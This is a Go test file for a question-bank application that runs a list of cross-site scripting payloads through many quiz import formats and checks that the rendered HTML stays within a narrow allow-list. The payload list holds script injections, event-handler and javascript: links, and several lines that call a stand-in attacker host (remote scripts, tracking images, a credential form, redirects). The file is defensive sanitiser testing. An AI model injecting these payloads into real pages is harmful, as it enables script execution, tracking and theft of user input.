package question

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"html/template"
	"reflect"
	"slices"
	"strings"
	"testing"

	parser "golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"cakap/internal/sheet/sheettest"
	"cakap/internal/web/kit"
	"cakap/questionbank"
	"cakap/questionbank/format"
)

// payloads is what strangers put into questions (security.md, IN-01 to IN-03):
// each runs, fetches or covers something where a page takes it for markup.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://jahat.id/x.js></SCRIPT>`,
	`"><script>alert(1)</script>`,
	`'"></title><svg onload=alert(1)>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://jahat.id/t.gif" alt="pelacak">`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>klik</text></a></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math href="javascript:alert(1)">CLICKME</math>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object><embed src="https://jahat.id/x.swf">`,
	`<a href="javascript:alert(1)">klik</a>`,
	`<a href=" &#106;avascript:alert(1)">klik</a>`,
	`<form action="https://jahat.id"><input name=nip><button>Kirim</button></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<body onload=alert(1)>`,
	`<base href="https://jahat.id/"><link rel=stylesheet href="//jahat.id/x.css">`,
	`<meta http-equiv="refresh" content="0;url=https://jahat.id">`,
	`<style>*{background:url(https://jahat.id/x)}</style>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">tutup</div>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<video poster="https://jahat.id/p.png"><source onerror=alert(1)></video>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;img src=x onerror=alert(1)&#62;`,
	`[klik](javascript:alert(1))`,
	`[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](https://jahat.id/t.gif)`,
	`![x](media:../../admin "onerror=alert(1)")`,
	`<javascript:alert(1)> <https://jahat.id>`,
	"`<script>alert(1)</script>` ```<img src=x onerror=alert(1)>```",
	`[x]: javascript:alert(1)` + " [x]",
	"\ue0000\ue001<script>alert(1)</script>\ue0020\ue003",
	`&#xe002;0&#xe003;&#xe000;0&#xe001;`,
	`{{.}}<%= 7*7 %>${7*7}#{7*7}`,
}

// carriers put a text into the stem, an option, the feedback and the title of a
// question of each format; raw where the format holds HTML or Markdown.
var carriers = []struct {
	name string
	file func(t *testing.T, payload string) []byte
}{
	{"x.gift", func(_ *testing.T, p string) []byte {
		e := giftEscape(p)
		return []byte(fmt.Sprintf("::%[1]s::[html]Apa %[1]s? {=[html]%[1]s satu#[html]%[1]s ~[markdown]%[1]s dua ~[plain]%[1]s tiga ####[html]%[1]s}\n\n[markdown]Apa %[1]s itu? {=%[1]s a ~b}\n", e))
	}},
	{"x.xml", func(_ *testing.T, p string) []byte {
		var b strings.Builder
		b.WriteString("<quiz>")
		for _, form := range []string{"html", "markdown", "moodle_auto_format", "plain_text"} {
			text := func(tag, tail string) string {
				return fmt.Sprintf(`<%s format="%s"><text>%s</text></%[1]s>`, tag, form, html.EscapeString(p+tail))
			}
			fmt.Fprintf(&b, `<question type="multichoice"><name><text>%s</text></name>%s%s<single>true</single>`, html.EscapeString(p), text("questiontext", " apa?"), text("generalfeedback", ""))
			fmt.Fprintf(&b, `<answer fraction="100" format="%s"><text>%s</text>%s</answer><answer fraction="0"><text>dua</text></answer></question>`, form, html.EscapeString(p+" satu"), text("feedback", ""))
		}
		return []byte(b.String() + "</quiz>")
	}},
	{"item.xml", func(_ *testing.T, p string) []byte {
		e := html.EscapeString(p)
		return []byte(`<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="i" title="` + e + `" adaptive="false" timeDependent="false"><responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse><value>A</value></correctResponse></responseDeclaration><outcomeDeclaration identifier="SCORE" cardinality="single" baseType="float"/><itemBody><p onclick="alert(1)" style="position:fixed">Apa ` + e + `?</p><script>alert(1)</script><img src="https://jahat.id/x.png" onerror="alert(1)" alt="x"/><choiceInteraction responseIdentifier="RESPONSE" maxChoices="1"><simpleChoice identifier="A">` + e + ` satu</simpleChoice><simpleChoice identifier="B"><a href="javascript:alert(1)">dua</a></simpleChoice></choiceInteraction></itemBody><responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/match_correct"/></assessmentItem>`)
	}},
	{"canvas.xml", func(_ *testing.T, p string) []byte {
		e := html.EscapeString(p)
		return []byte(`<questestinterop><item ident="i" title="` + e + `"><itemmetadata><qtimetadata><qtimetadatafield><fieldlabel>question_type</fieldlabel><fieldentry>multiple_choice_question</fieldentry></qtimetadatafield></qtimetadata></itemmetadata><presentation><material><mattext texttype="text/html">Apa ` + e + `?</mattext></material><response_lid ident="r" rcardinality="Single"><render_choice><response_label ident="1"><material><mattext texttype="text/html">` + e + ` satu</mattext></material></response_label><response_label ident="2"><material><mattext>` + e + ` dua</mattext></material></response_label></render_choice></response_lid></presentation><resprocessing><outcomes><decvar maxvalue="100" minvalue="0" varname="SCORE"/></outcomes><respcondition><conditionvar><varequal respident="r">1</varequal></conditionvar><setvar action="Set" varname="SCORE">100</setvar></respcondition></resprocessing></item></questestinterop>`)
	}},
	{"soal.docx", func(t *testing.T, p string) []byte {
		var b strings.Builder
		for _, line := range []string{"1. Apa " + p + " itu?", "A. " + p + " satu", "B. " + p + " dua", "Kunci: A", "Pembahasan: " + p} {
			b.WriteString(`<w:p><w:r><w:t xml:space="preserve">` + html.EscapeString(line) + `</w:t></w:r></w:p>`)
		}
		return word(t, b.String())
	}},
	{"soal.txt", func(_ *testing.T, p string) []byte {
		return []byte(fmt.Sprintf("1. Apa %[1]s itu?\nA. %[1]s satu\nB. %[1]s dua\nKunci: A\nPembahasan: %[1]s\n", p))
	}},
	{"soal.xlsx", func(_ *testing.T, p string) []byte {
		return grid(p, "SOAL", "OPSI A", "OPSI B", "KUNCI", "PEMBAHASAN", "JUDUL")
	}},
	{"templat.xlsx", func(_ *testing.T, p string) []byte {
		return grid(p, "POKOK SOAL", "OPSI A", "OPSI B", "KUNCI", "PEMBAHASAN", "KODE BUTIR")
	}},
	{"soal.csv", func(_ *testing.T, p string) []byte {
		q := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
		return []byte("SOAL,OPSI A,OPSI B,KUNCI,PEMBAHASAN\n" + strings.Join([]string{q("Apa " + p + "?"), q(p + " satu"), q(p + " dua"), "A", q(p)}, ",") + "\n")
	}},
	{"soal.json", func(t *testing.T, p string) []byte {
		data, err := json.Marshal([]map[string]any{{"question": "Apa " + p + "?", "options": []string{p + " satu", p + " dua"}, "answer": 0, "explanation": p}})
		if err != nil {
			t.Fatal(err)
		}
		return data
	}},
	{"tcexam.xml", func(_ *testing.T, p string) []byte {
		e := html.EscapeString(p)
		return []byte(`<tcexamquestions version="17"><body><module><name>` + e + `</name><enabled>true</enabled><subject><name>` + e + `</name><enabled>true</enabled><question><enabled>true</enabled><type>single</type><difficulty>1</difficulty><description>Apa ` + e + `? [img]https://jahat.id/x.png[/img][url=javascript:alert(1)]x[/url]</description><explanation>` + e + `</explanation><answer><enabled>true</enabled><isright>true</isright><description>` + e + ` satu</description></answer><answer><enabled>true</enabled><isright>false</isright><description>` + e + ` dua</description></answer></question></subject></module></body></tcexamquestions>`)
	}},
	{"cloze.txt", func(_ *testing.T, p string) []byte {
		return []byte("Apa " + p + " itu? {1:MULTICHOICE:=" + clozeEscape(p) + " satu#" + clozeEscape(p) + "~dua}")
	}},
}

func giftEscape(s string) string {
	return strings.NewReplacer(`\`, `\\`, "~", `\~`, "=", `\=`, "#", `\#`, "{", `\{`, "}", `\}`, ":", `\:`).Replace(s)
}

func clozeEscape(s string) string {
	return strings.NewReplacer(`\`, `\\`, "~", `\~`, "#", `\#`, "}", `\}`, "=", `\=`).Replace(s)
}

func grid(p string, titles ...any) []byte {
	row := []any{"Apa " + p + "?", p + " satu", p + " dua", "A", p, p}
	return sheettest.Workbook(sheettest.Sheet{Name: "Soal", Rows: [][]any{titles, row}})
}

func word(t *testing.T, body string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, part := range [][2]string{
		{"_rels/.rels", `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body + `</w:body></w:document>`},
	} {
		w, err := z.Create(part[0])
		if err == nil {
			_, err = w.Write([]byte(part[1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// allowed is every element that a question may become, with its attributes: the
// narrow Markdown, a picture of its own, and the controls of a gap.
var allowed = map[string][]string{
	"p": nil, "strong": nil, "em": nil, "ul": nil, "ol": nil, "li": nil, "code": nil, "pre": nil, "br": nil, "blockquote": nil, "b": nil,
	"table": nil, "thead": nil, "tbody": nil, "tr": nil, "th": nil, "td": nil, "div": {"class", "role", "tabindex", "aria-label"},
	"img":   {"src", "alt", "width", "height", "loading", "decoding"},
	"audio": {"controls", "preload", "src", "aria-label"}, "video": {"controls", "preload", "src", "width", "height", "aria-label"},
	"input": {"class", "name", "value", "aria-label", "autocomplete", "autocapitalize", "spellcheck", "inputmode", "maxlength", "data-part", "data-i", "id", "size"}, "span": {"class"}, "label": {"class", "for"},
	"select": {"class", "name", "aria-label", "autocomplete", "data-part", "data-i", "id"}, "option": {"value", "selected"},
}

// dangerous says what of a rendered text is more than it may be, "" for nothing.
func dangerous(rendered string) string {
	nodes, err := parser.ParseFragment(strings.NewReader(rendered), &parser.Node{Type: parser.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		return err.Error()
	}
	found := ""
	var walk func(n *parser.Node)
	walk = func(n *parser.Node) {
		switch n.Type {
		case parser.ElementNode:
			attrs, ok := allowed[n.Data]
			if !ok {
				found = "<" + n.Data + ">"
			}
			for _, a := range n.Attr {
				switch {
				case !slices.Contains(attrs, a.Key):
					found = "<" + n.Data + " " + a.Key + ">"
				case a.Key == "src" && !strings.HasPrefix(a.Val, kit.MediaPath):
					found = "src " + a.Val
				}
			}
		case parser.CommentNode:
			found = "a comment"
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return found
}

// rendered is every HTML that a view holds; all its other texts are escaped by
// the templates.
func rendered(v reflect.Value, visit func(template.HTML)) {
	switch {
	case v.Type() == reflect.TypeFor[template.HTML]():
		visit(template.HTML(v.String()))
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			rendered(v.Field(i), visit)
		}
	case v.Kind() == reflect.Slice:
		for i := range v.Len() {
			rendered(v.Index(i), visit)
		}
	}
}

// What the test forbids it must also find.
func TestDangerousIsFound(t *testing.T) {
	for _, bad := range []string{
		`<script>x</script>`, `<p onclick="x">a</p>`, `<img src="https://jahat.id/x.png">`, `<a href="/">x</a>`, `<p style="color:red">x</p>`, `<img src="/media/x" onerror="x">`, `<!-- x -->`,
	} {
		if dangerous(bad) == "" {
			t.Errorf("%s passes", bad)
		}
	}
	if got := dangerous(`<p>a <strong>b</strong> &lt;script&gt;<img src="/media/abc" alt="x"></p>`); got != "" {
		t.Errorf("harmless HTML does not pass: %s", got)
	}
}

// TestPayloadsAreInert takes every payload through every reader and looks at
// what participants and authors are shown: nothing that runs, nothing that
// fetches from elsewhere, no markup beyond the narrow policy.
func TestPayloadsAreInert(t *testing.T) {
	for _, c := range carriers {
		t.Run(c.name, func(t *testing.T) {
			questions := 0
			for _, payload := range payloads {
				parsed, err := format.Read(questionbank.Input{Name: c.name, Content: c.file(t, payload)})
				if err != nil {
					t.Logf("%q is refused: %v", payload, err)
					continue
				}
				questions += len(parsed.Items)
				for _, item := range parsed.Items {
					inert(t, payload, item.Content.Normalise())
				}
			}
			if questions < len(payloads)*3/4 {
				t.Errorf("only %d questions of %d payloads were read", questions, len(payloads))
			}
		})
	}
}

func inert(t *testing.T, payload string, c questionbank.Content) {
	t.Helper()
	for i := range c.Media {
		c.Media[i].SHA256, c.Media[i].MIME = strings.Repeat("0", 64), "image/png"
	}
	d := c.Delivery()
	v, err := Show(Item{N: 1, Delivery: d})
	if err != nil {
		t.Errorf("%q: %v", payload, err)
	}
	check := func(shown template.HTML) {
		if what := dangerous(string(shown)); what != "" {
			t.Errorf("%q lets %s through: %s", payload, what, shown)
		}
	}
	rendered(reflect.ValueOf(v), check)
	texts := []string{c.Title, c.Stem, c.Stimulus, c.Rationale, c.Category}
	for _, in := range c.Interactions {
		for _, o := range slices.Concat(in.Options, in.Targets) {
			texts = append(texts, o.Text, o.Reason)
		}
	}
	if c.Feedback != nil {
		texts = append(texts, c.Feedback.Correct, c.Feedback.Partial, c.Feedback.Wrong)
		texts = append(texts, c.Feedback.Hints...)
	}
	for _, text := range texts { // also as authors and reviewers see what participants do not
		shown, err := kit.MarkdownMedia(text, d.Media)
		if err != nil {
			t.Errorf("%q: %v", payload, err)
		}
		check(shown)
	}
}
